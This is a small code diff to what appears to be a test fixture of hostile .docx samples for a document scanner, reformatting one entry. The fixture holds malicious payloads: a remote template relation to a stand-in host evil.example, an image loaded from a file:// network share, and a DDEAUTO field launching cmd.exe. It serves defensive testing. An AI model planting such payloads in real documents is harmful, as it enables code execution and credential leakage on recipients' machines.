@@ -162,11 +162,7 @@ export const hostileFiles = (): [name: string, content: Buffer, says: RegExp][] 
     docx('<w:document/>', relation('attachedTemplate', 'http://evil.example/a.dotm')),
     /外の/,
   ],
-  [
-    'picture-from-outside.docx',
-    docx('<w:document/>', relation('image', 'file://host/share/a.png')),
-    /外の/,
-  ],
+  ['picture-from-outside.docx', docx('<w:document/>', relation('image', 'file://host/share/a.png')), /外の/],
   [
     'dde.docx',
     docx('<w:instrText>D</w:instrText><w:instrText>DEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>'),
